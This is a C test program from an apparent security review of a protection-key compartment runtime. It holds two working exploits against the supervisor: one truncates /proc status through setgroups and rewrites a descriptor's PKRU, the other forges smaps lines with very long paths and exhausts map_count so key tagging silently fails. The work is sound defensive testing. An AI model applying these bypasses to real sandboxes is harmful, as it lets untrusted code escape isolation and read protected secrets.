/* Review 13b: attacks on the supervisor's object filter (BH_FILTER_WRITE,
 * BH_FILTER_CHECK) and key grant (BH_KEY_GIVE, the four pkey_mprotect
 * calls, BH_KEY_DONE), driven by hand as key-grant.c drives them (attacker
 * model B: the default domain's program counter, raw system calls). The
 * object is libvault.so's file (argv[1]), mapped by the program as ld.so
 * would. argv[2] names the case; each runs in a fork of its own.
 *   groups-check: the check passes with no filter installed: the caller's
 *     /proc/<tid>/status made longer than the supervisor's 4096-byte
 *     buffer (setgroups), so its Seccomp_filters line is cut off, and the
 *     supervisor's errno left at ENOENT by a failed open it made for us.
 *     Then a key is given, the data pages become a shared memory file with
 *     a key-0 alias before the tag, and the descriptor the supervisor
 *     wrote is rewritten.
 *   forged-smaps: the grant completes with nothing tagged: a file whose
 *     path is longer than the supervisor's smaps line buffer makes the
 *     tail of its line read as lines of their own ("0-7fffffffffff rw-p",
 *     then "ProtectionKey: K"), while the four pkey_mprotect calls the
 *     supervisor let through fail in the kernel (the process is at
 *     vm.max_map_count, so no mapping can be split). */
#define _GNU_SOURCE
#include <bulkhead.h>
#include "../../../runtime/internal.h"
#include "../../../runtime/syscalls.h"
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "grant.h"
#include "long-path.h"

BULKHEAD_DATA(local) static int local_secret = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_secret; }

/* The object mapped (grant.h), its descriptor's page read-only as
 * BH_KEY_GIVE wants it. */
static void map_vault_ro(const char *path) {
  map_vault(path);
  if (mprotect((void *)desc, 4096, PROT_READ))
    exit(3);
}

/* ------------------------------------------------------- groups-check */

static void groups_check(void) {
  printf("filters before: %ld\n", my_filters());
  long w = request(BH_FILTER_WRITE, base, 0);
  printf("write: %ld\n", w);
  /* The supervisor opens this for us and fails: its errno is ENOENT. */
  int fd = open("/review13b-no-such-file", O_RDONLY);
  printf("open: %d (%s)\n", fd, strerror(errno));
  /* Only this thread's groups (the raw call): its status line grows past
   * 4096 bytes, Seccomp_filters with it. */
  static gid_t g[2000];
  for (int i = 0; i < 2000; i++)
    g[i] = 1000000000u + (gid_t)i;
  long sg = syscall(SYS_setgroups, 2000, g);
  long c = request(BH_FILTER_CHECK, 0, 0);
  int ce = errno;
  syscall(SYS_setgroups, 0, g);
  printf("setgroups %ld, check without installing the filter: %ld (%s)\n", sg,
         c, c ? strerror(ce) : "accepted");
  printf("filters now: %ld\n", my_filters());
  /* The object counts as filtered: a key is given for it. */
  long key = request(BH_KEY_GIVE, base, desc);
  printf("give: %s\n", slot_of(key) >= 0 ? "a reserved key" : strerror(errno));
  if (slot_of(key) < 0)
    return;
  int s = slot_of(key);
  /* No object filter: before the tag, the data pages become a shared
   * memory file mapped there and, key 0, at an alias elsewhere. */
  size_t len = data_hi - data_lo;
  int mfd = memfd_create("review13b-alias", MFD_CLOEXEC);
  char *alias = MAP_FAILED;
  if (mfd >= 0 && !ftruncate(mfd, (off_t)len))
    alias = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
  void *m = alias == MAP_FAILED
                ? MAP_FAILED
                : mmap((void *)data_lo, len, PROT_READ | PROT_WRITE,
                       MAP_SHARED | MAP_FIXED, mfd, 0);
  printf("data pages replaced before the tag: %s\n",
         m == MAP_FAILED ? strerror(errno) : "yes");
  long four[4];
  tag_four(s, key, four, NULL);
  long t = four[0] | four[1] | four[2] | four[3];
  long d = request(BH_KEY_DONE, key, 0);
  printf("tags %ld, done %ld, data key is the key: %d\n", t, d,
         key_at(data_lo) == key);
  /* The supervisor put the compartment's data back from the file into
   * the keyed pages: the default domain reads it at its key-0 alias. */
  const char *secret =
      alias == MAP_FAILED ? NULL : memmem(alias, len, "TOP-SECRET", 10);
  printf("key-0 alias of the compartment's data reads: %s\n",
         secret ? secret : "(nothing)");
  /* The descriptor the supervisor wrote (its key, PKRU, arena) stays
   * only while the object's filter keeps its page read-only. */
  struct bulkhead_domain *dd = (struct bulkhead_domain *)desc;
  long mp = mprotect(dd, 4096, PROT_READ | PROT_WRITE);
  if (!mp)
    dd->pkru = 0; /* every key open, once the compartment is entered */
  printf("descriptor page made writable: %ld, pkru it holds now %u\n", mp,
         mp ? 1u : dd->pkru);
}

/* -------------------------------------------------------- forged-smaps */

/* A file whose line in smaps reads, past the supervisor's 4223 bytes per
 * fgets, as a mapping of everything and then as its protection key. */
static int forge(long key) {
  enum { CHUNK = 4096 + 128 - 1 };
  int col = path_column();
  if (col < 0)
    return -1;
  char top[4096];
  if (!getcwd(top, sizeof top - 32))
    return -1;
  strcat(top, "/review13b-long"); /* under the test's directory */
  mkdir(top, 0700);
  int dir = open(top, O_PATH | O_DIRECTORY | O_CLOEXEC);
  size_t len = strlen(top) + 1;
  dir = pad_to(dir, &len, col, CHUNK);
  if (dir < 0)
    return -1;
  char head[256];
  int n = snprintf(head, sizeof head, "0-7fffffffffff rw-p ");
  memset(head + n, 'h', 100);
  head[n + 100] = 0;
  if (mkdirat(dir, head, 0700) && errno != EEXIST)
    return -1;
  int next = openat(dir, head, O_PATH | O_DIRECTORY | O_CLOEXEC);
  close(dir);
  dir = next;
  len += strlen(head) + 1;
  dir = pad_to(dir, &len, col, 2 * CHUNK);
  if (dir < 0)
    return -1;
  char name[64];
  snprintf(name, sizeof name, "ProtectionKey: %ld", key);
  int fd = openat(dir, name, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
  close(dir);
  if (fd < 0 || ftruncate(fd, 4096))
    return -1;
  /* Below every range the supervisor will look at. */
  void *m = mmap((void *)0x10000000, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  close(fd);
  return m == MAP_FAILED ? -1 : 0;
}

static void forged_smaps(void) {
  long w = request(BH_FILTER_WRITE, base, 0);
  long sc = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                    SECCOMP_FILTER_FLAG_TSYNC, bh_policy->filter_page);
  long c = request(BH_FILTER_CHECK, 0, 0);
  printf("protect: write %ld, seccomp %ld, check %ld\n", w, sc, c);
  long key = request(BH_KEY_GIVE, base, desc);
  int s = slot_of(key);
  printf("give: %s\n", s >= 0 ? "a reserved key" : strerror(errno));
  if (s < 0)
    return;
  printf("forged file mapped: %d\n", forge(key));
  /* Every mapping the kernel allows: no split is possible any more. */
  static void *fill[70000];
  int nfill = 0;
  while (nfill < 70000) {
    void *m = mmap(NULL, 4096, nfill & 1 ? PROT_READ : PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (m == MAP_FAILED)
      break;
    fill[nfill++] = m;
  }
  uintptr_t hlo, hhi;
  region(s, &hlo, &hhi);
  long t[4];
  int e[4];
  tag_four(s, key, t, e);
  long d = request(BH_KEY_DONE, key, 0);
  int de = errno;
  while (nfill > 0)
    munmap(fill[--nfill], 4096);
  for (int i = 0; i < 4; i++)
    printf("tag %d: %ld%s%s\n", i, t[i], t[i] ? " " : "",
           t[i] ? strerror(e[i]) : "");
  printf("done: %ld%s%s\n", d, d ? " " : "", d ? strerror(de) : "");
  printf("keys now: cookie %d, arena %d, heap %d, data %d (the key is %ld)\n",
         key_at(arena(s)), key_at(arena(s) + BH_ARENA_GUARD), key_at(hlo),
         key_at(data_lo), key);
  /* The grant counts as done: a plain mprotect of the arena is let
   * through, and the key's stacks would be key-0 memory. */
  long m = mprotect((void *)(arena(s) + BH_ARENA_GUARD), 4096,
                    PROT_READ | PROT_WRITE);
  printf("mprotect of its arena: %ld, key %d\n", m,
         key_at(arena(s) + BH_ARENA_GUARD));
  if (!m) {
    strcpy((char *)(arena(s) + BH_ARENA_GUARD), "written from key 0");
    printf("default domain wrote the key's arena: %s\n",
           (char *)(arena(s) + BH_ARENA_GUARD));
  }
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  for (int i = 2; i < argc; i++) {
    printf("== %s\n", argv[i]);
    pid_t p = fork();
    if (p == 0) {
      dup2(1, 2);
      map_vault_ro(argv[1]);
      printf("object mapped, data of %zu pages\n", (data_hi - data_lo) / 4096);
      if (!strcmp(argv[i], "groups-check"))
        groups_check();
      else if (!strcmp(argv[i], "forged-smaps"))
        forged_smaps();
      printf("not refused\n");
      _exit(0);
    }
    int st;
    waitpid(p, &st, 0);
    if (WIFSIGNALED(st))
      printf("signal %d\n", WTERMSIG(st));
    else
      printf("exit %d\n", WEXITSTATUS(st));
  }
  return local_get() == 7 ? 0 : 1;
}
